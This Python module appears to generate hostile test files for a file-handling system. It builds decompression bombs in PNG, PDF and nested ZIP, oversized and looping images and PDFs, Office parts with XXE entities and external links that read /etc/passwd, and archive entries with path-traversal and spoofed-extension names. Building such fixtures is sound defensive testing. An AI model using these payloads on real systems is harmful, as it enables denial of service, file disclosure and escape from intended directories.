"""More files made to harm: archives that overlap, pictures without end, tables that bite their tail."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

from PIL import Image

from vault.dangerous_files import office, png

_PNG_HEAD = 33  # signature and IHDR
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


def chunk(name: bytes, body: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_with(*chunks: bytes) -> bytes:
    """Return a small picture with these chunks before its dots."""
    made = png(8, 6, bytes((8 * 3 + 1) * 6))
    return made[:_PNG_HEAD] + b"".join(chunks) + made[_PNG_HEAD:]


def _bomb(size: int = 1 << 30) -> bytes:
    packer, block = zlib.compressobj(9), bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


def colour_bomb() -> bytes:
    """Return a picture whose colour profile unpacks to a gigabyte."""
    return png_with(chunk(b"iCCP", b"icc\0\0" + _bomb()))


def word_bomb() -> bytes:
    """Return a picture with words that unpack to a gigabyte, twice."""
    packed = _bomb()
    return png_with(chunk(b"zTXt", b"a\0\0" + packed), chunk(b"iTXt", b"a\0\1\0\0\0" + packed))


def jpeg_with_profiles() -> bytes:
    """Return a photo with a colour profile in 255 pieces, of which each claims to be the last."""
    made = io.BytesIO()
    Image.new("RGB", (8, 6), "teal").save(made, "JPEG")
    piece = b"ICC_PROFILE\0\xff\xff" + bytes(60_000)
    block = b"\xff\xe2" + struct.pack(">H", len(piece) + 2) + piece
    return made.getvalue()[:2] + block * 255 + made.getvalue()[2:]


def wide_jpeg() -> bytes:
    """Return a photo that claims 65,500 dots each way in some hundred bytes."""
    made = io.BytesIO()
    Image.new("L", (8, 8), "white").save(made, "JPEG")
    data = bytearray(made.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def jpeg_of_many_scans(scans: int) -> bytes:
    """Return a progressive photo whose last scan comes so many times."""
    made = io.BytesIO()
    Image.effect_noise((1000, 1000), 60).save(made, "JPEG", progressive=True)
    data = made.getvalue()
    at = data.rindex(b"\xff\xda")
    return data[:at] + data[at:-2] * scans + data[-2:]


def gif_of_many_frames(frames: int = 100_000) -> bytes:
    """Return a moving picture of so many frames."""
    made = io.BytesIO()
    still = [Image.new("L", (8, 8), shade) for shade in (0, 255)]
    still[0].save(made, "GIF", save_all=True, append_images=still[1:])
    data = made.getvalue()
    at = data.rindex(b"\x21\xf9\x04")
    return data[:at] + data[at:-1] * frames + data[-1:]


def webp_of_many_frames(frames: int = 100_000) -> bytes:
    """Return a moving picture of so many frames, as WebP."""
    made = io.BytesIO()
    still = [Image.new("RGB", (16, 16), shade) for shade in ("black", "white")]
    still[0].save(made, "WEBP", save_all=True, append_images=still[1:], duration=50)
    data = made.getvalue()
    at = data.rindex(b"ANMF")
    body = data[8:at] + data[at:] * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def wide_tiff() -> bytes:
    """Return a TIFF that claims four thousand million dots each way."""
    tags = ((256, 4, 0xFFFFFFFF), (257, 4, 0xFFFFFFFF), (258, 3, 8), (273, 4, 8), (279, 4, 0xFFFFFFFF))
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(tags)) + entries + bytes(4)


def pdf_of(*objects: bytes, tail: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is its catalog."""
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    out.write(b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (size, tail, table))
    return out.getvalue()


def _stream(body: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(body), more, body)


def _paper(*, box: bytes = b"0 0 595 842", content: bytes = b"", more: Iterable[bytes] = ()) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R/Resources<</XObject<</P 5 0 R>>>>>>" % box
    tree = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", tree, page, content or _stream(b""), *more)


def pdf_of_many_pages(pages: int) -> bytes:
    """Return a PDF of so many pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, pages + 3))
    tree = b"<</Type/Pages/Count %d/Kids[%b]>>" % (pages, kids)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>"
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", tree, *[page] * pages)


def pdf_with_a_table_loop() -> bytes:
    """Return a PDF whose table of places says that the one before it is itself."""
    made = _paper()
    table = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % table)


def pdf_with_deep_arrays() -> bytes:
    """Return a PDF with an array a hundred thousand levels deep."""
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R/X %b%b>>" % (b"[" * 100_000, b"]" * 100_000), b"<<>>")


def pdf_stream_bomb(size: int) -> bytes:
    """Return a PDF with a page whose drawing unpacks to so many bytes."""
    return _paper(content=_stream(_bomb(size), b"/Filter/FlateDecode"))


def pdf_nested_bomb() -> bytes:
    """Return a PDF with a page packed three times over, each time a thousandfold."""
    packed = zlib.compress(zlib.compress(_bomb(), 9), 9)
    return _paper(content=_stream(packed, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def pdf_pixel_bomb() -> bytes:
    """Return a PDF with a picture of 3.6 thousand million dots."""
    told = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter/FlateDecode"
    )
    return _paper(content=_stream(b"q 595 0 0 842 0 0 cm /P Do Q"), more=[_stream(_bomb(64 << 20), told)])


def pdf_of_paper(box: bytes) -> bytes:
    """Return a PDF whose paper has these sides."""
    return _paper(box=box, content=_stream(b"0 0 100 100 re f"))


def pdf_form_loop(times: int) -> bytes:
    """Return a PDF with a drawing that draws itself so many times."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</P 5 0 R>>>>"
    return _paper(content=_stream(b"/P Do"), more=[_stream(b"/P Do " * times, form)])


def office_asking_outside(port: int) -> bytes:
    """Return a document that wants a template, a picture and a font from elsewhere."""
    elsewhere = f"http://127.0.0.1:{port}/asked"
    links = "".join(
        f'<Relationship Id="r{number}" Type="{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            (
                ("attachedTemplate", elsewhere),
                ("image", elsewhere),
                ("oleObject", "file:///etc/passwd"),
                ("frame", "\\\\\\\\127.0.0.1\\\\share"),
            )
        )
    )
    told = f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}">{links}</Relationships>'.encode()
    return office(
        "河水发臭", more={"word/_rels/document.xml.rels": told, "word/_rels/settings.xml.rels": told}
    )


def office_with_entities(where: str) -> bytes:
    """Return a document with an entity from outside, by parameter and by name, in this part of it."""
    told = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1/x.dtd"> %p;'
        b'<!ENTITY x SYSTEM "file:///etc/passwd">]><cp xmlns:dc="d"><dc:creator>&x;</dc:creator></cp>'
    )
    return office("河水发臭", more={where: told})


def office_with_archives(levels: int = 6) -> bytes:
    """Return a document with an archive in an archive in an archive, the innermost a gigabyte of nothing."""
    inner = b"\0" * (64 << 20)
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for number in range(16):
                archive.writestr(f"{number}.zip", inner)
        inner = out.getvalue()
    return office("河水发臭", more={"word/embeddings/a.zip": inner})


def office_of_one_part_many_times(times: int = 2_000) -> bytes:
    """Return a document whose directory names the same packed megabytes again and again, as its headers."""
    words = b'<w:hdr xmlns:w="w"><w:t>' + b"x" * (10 << 20) + b"</w:t></w:hdr>"
    made = io.BytesIO(office("河水发臭", more={"word/header1.xml": words}))
    with zipfile.ZipFile(made, "a") as archive:
        first = archive.getinfo("word/header1.xml")
        for number in range(2, times + 2):
            again = zipfile.ZipInfo(f"word/header{number}.xml")
            for name in ("compress_type", "compress_size", "file_size", "CRC", "header_offset", "flag_bits"):
                setattr(again, name, getattr(first, name))
            archive.filelist.append(again)
        archive._didModify = True
    return made.getvalue()


def office_with_path_tricks() -> bytes:
    """Return a document whose parts want to lie elsewhere."""
    wanted = ("../../../../tmp/huiyin-escaped", "/tmp/huiyin-escaped", "C:\\huiyin-escaped", "word/../../x")
    return office("河水发臭", more=dict.fromkeys((*wanted, "CON", "a\u202efdp.exe", "x" * 60000), b"escaped"))


def deep_office() -> bytes:
    """Return a document with elements within elements, a million deep."""
    deep = b"<w:p>" * 1_000_000 + b"</w:p>" * 1_000_000
    return office(document=b'<w:document xmlns:w="w">' + deep + b"</w:document>")


def video(*lengths: int) -> bytes:
    """Return a video whose boxes claim these lengths."""
    first = struct.pack(">I", lengths[0]) + b"ftypisom" + bytes(4)
    return first + b"".join(struct.pack(">I", one) + b"moov" + bytes(64) for one in lengths[1:])
